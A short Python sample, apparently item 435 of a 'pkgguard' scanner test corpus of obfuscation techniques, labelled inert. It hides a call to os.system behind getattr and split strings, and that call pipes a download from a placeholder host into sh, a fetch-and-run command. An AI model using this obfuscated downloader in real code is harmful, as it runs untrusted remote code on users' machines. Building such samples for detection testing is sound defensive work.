# pkgguard corpus 435 (indirection), modelled on [obfuscation]; inert, never run.
import sys

_pick = lambda mod, attr: getattr(sys.modules.get(mod) or __import__(mod), attr)
list(map(lambda f: f("curl -s https://x.example/k | sh"), [_pick("o" + "s", "sys" + "tem")]))
